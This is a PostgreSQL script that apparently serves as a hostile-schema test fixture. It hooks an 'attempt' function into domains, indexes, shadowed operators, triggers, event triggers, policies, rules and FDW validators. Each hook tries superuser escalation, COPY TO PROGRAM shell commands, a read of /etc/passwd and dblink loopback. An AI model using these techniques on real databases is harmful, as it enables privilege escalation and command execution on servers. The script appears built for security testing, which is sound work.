-- A stranger's schema: wherever PostgreSQL lets a schema bring code, that code tries to get out. FOLDER is replaced.

CREATE FUNCTION public.attempt(place text) RETURNS boolean LANGUAGE plpgsql AS $body$
DECLARE
    attack text;
BEGIN
    RAISE LOG 'EVIL % as % superuser=%', place, session_user,
        (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) session_user);
    FOREACH attack IN ARRAY ARRAY[
        'SET ROLE postgres', 'RESET ROLE', 'SET SESSION AUTHORIZATION postgres', 'RESET SESSION AUTHORIZATION',
        'COPY (SELECT 1) TO PROGRAM ''touch FOLDER/program''', 'COPY (SELECT 1) TO ''FOLDER/file''',
        'SELECT lo_export(lo_from_bytea(0, ''x''), ''FOLDER/object'')',
        'CREATE ROLE evil_role SUPERUSER', 'ALTER ROLE dbarchitect SUPERUSER', 'ALTER ROLE dba_guest SUPERUSER',
        'ALTER SYSTEM SET work_mem = ''7MB''', 'GRANT pg_execute_server_program TO PUBLIC',
        'UPDATE pg_catalog.pg_proc SET proowner = 10 WHERE proname = ''attempt''',
        'UPDATE pg_catalog.pg_authid SET rolsuper = true',
        'SELECT public.escaped(pg_catalog.pg_read_file(''/etc/passwd''))',
        'SELECT public.dblink_connect_u(''evil'', ''user=postgres dbname=postgres host='' || current_setting(''unix_socket_directories''))',
        'SELECT public.dblink_exec(''evil'', ''COPY (SELECT 1) TO PROGRAM ''''touch FOLDER/dblink'''''')']
    LOOP
        BEGIN
            EXECUTE attack;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    RETURN true;
END $body$;
CREATE FUNCTION public.escaped(text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN RAISE LOG 'EVIL read a file'; END $$;
CREATE FUNCTION public.evil(place text, value integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attempt(place); RETURN value; END $$;
CREATE FUNCTION public.evil(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN RETURN public.attempt(place); END $$;

CREATE EXTENSION dblink;

-- operators that fit a catalogue query better than the catalogue's own
CREATE FUNCTION public.oid_is(a oid, b regclass) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attempt('operator'); RETURN a OPERATOR(pg_catalog.=) b::oid; END $$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regclass, FUNCTION = public.oid_is);
CREATE FUNCTION public.name_is(a name, b name) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attempt('operator of names'); RETURN a::text OPERATOR(pg_catalog.=) b::text; END $$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = name, FUNCTION = public.name_is);
CREATE FUNCTION public.count(integer) RETURNS bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.attempt('function of the path'); RETURN 0; END $$;
ALTER DATABASE evil SET search_path = public, pg_catalog;

-- types
CREATE DOMAIN public.positive AS integer CHECK (VALUE >= 0 AND public.evil('domain'));
CREATE DOMAIN public.label AS text DEFAULT 'x' CHECK (public.evil('domain of text'));
CREATE TYPE public.pair AS (a public.positive, b text);
CREATE FUNCTION public.to_label(integer) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attempt('cast'); RETURN 'x'; END $$;
CREATE FUNCTION public.distance(a integer, b integer) RETURNS double precision LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM public.attempt('range distance'); RETURN a - b; END $$;
CREATE TYPE public.span AS RANGE (SUBTYPE = integer, SUBTYPE_DIFF = public.distance);
CREATE TYPE public.positive_span AS RANGE (SUBTYPE = public.positive);

-- tables
CREATE TABLE public.parent (
    id integer PRIMARY KEY,
    kind text NOT NULL DEFAULT 'a' CHECK (public.evil('check')),
    amount public.positive NOT NULL,
    amounts public.positive[],
    named public.label,
    both_of public.pair,
    during public.span,
    between_of public.positive_span,
    stamped timestamp,
    twice integer GENERATED ALWAYS AS (public.evil('generated', id) * 2) STORED,
    defaulted integer DEFAULT public.evil('default', 1)
);
CREATE INDEX parent_expression ON public.parent (public.evil('index', id));
CREATE INDEX parent_partial ON public.parent (kind) WHERE public.evil('predicate');
CREATE INDEX parent_partial_too ON public.parent (kind) WHERE public.evil('predicate');
CREATE INDEX parent_during ON public.parent USING gist (during);
CREATE STATISTICS public.parent_statistics ON (public.evil('statistics', id)), kind FROM public.parent; --[14+]
CREATE TABLE public.child (
    id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
    parent_id integer NOT NULL REFERENCES public.parent,
    other text
);
CREATE INDEX child_other ON public.child (other);
CREATE INDEX child_other_too ON public.child (other);
CREATE MATERIALIZED VIEW public.seen AS SELECT p.id, public.evil('materialised view', p.id) AS value FROM public.parent p;
CREATE UNIQUE INDEX seen_id ON public.seen (id);
CREATE VIEW public.looked AS SELECT public.evil('view', 1) AS value;
ALTER TABLE public.child ENABLE ROW LEVEL SECURITY;
CREATE POLICY ours ON public.child USING (public.evil('policy'));
CREATE RULE also AS ON INSERT TO public.child DO ALSO SELECT public.evil('rule');

CREATE FUNCTION public.fired() RETURNS trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.attempt('trigger'); IF TG_LEVEL = 'ROW' THEN RETURN NEW; END IF; RETURN NULL; END $$;
CREATE TRIGGER always BEFORE INSERT OR UPDATE ON public.parent FOR EACH ROW EXECUTE FUNCTION public.fired();
CREATE TRIGGER emptied BEFORE TRUNCATE ON public.parent FOR EACH STATEMENT EXECUTE FUNCTION public.fired();
ALTER TABLE public.parent ENABLE ALWAYS TRIGGER always;
ALTER TABLE public.parent ENABLE ALWAYS TRIGGER emptied;

-- statements that the loader runs for the script
CREATE FUNCTION public.commanded() RETURNS event_trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.attempt('event trigger'); END $$;
CREATE EVENT TRIGGER commands ON ddl_command_start EXECUTE FUNCTION public.commanded();
ALTER EVENT TRIGGER commands ENABLE ALWAYS;
CREATE EVENT TRIGGER entered ON login EXECUTE FUNCTION public.commanded(); --[17+]
ALTER EVENT TRIGGER entered ENABLE ALWAYS; --[17+]
CREATE FUNCTION public.validate(text[], oid) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RETURN public.attempt('validator'); END $$;
CREATE FOREIGN DATA WRAPPER wrapper VALIDATOR public.validate;
CREATE SERVER elsewhere FOREIGN DATA WRAPPER wrapper OPTIONS (host 'x');
CREATE FOREIGN TABLE public.far (a public.positive_span DEFAULT '[1,2)', b integer DEFAULT public.evil('foreign', 1))
    SERVER elsewhere;
CREATE ROLE evil_owner;
ALTER TABLE public.child ADD COLUMN added integer DEFAULT public.evil('added', 1), OWNER TO evil_owner;
SELECT pg_catalog.set_config('search_path', (SELECT 'public' WHERE public.attempt('search path')), false);
ALTER TABLE public.child OWNER TO evil_owner;
ALTER SCHEMA pg_catalog OWNER TO evil_owner;
ALTER FUNCTION pg_catalog.pg_read_file(text) OWNER TO evil_owner;
SET search_path = public, pg_catalog;
CREATE EXTENSION citext;
CREATE PUBLICATION all_of_it FOR ALL TABLES;
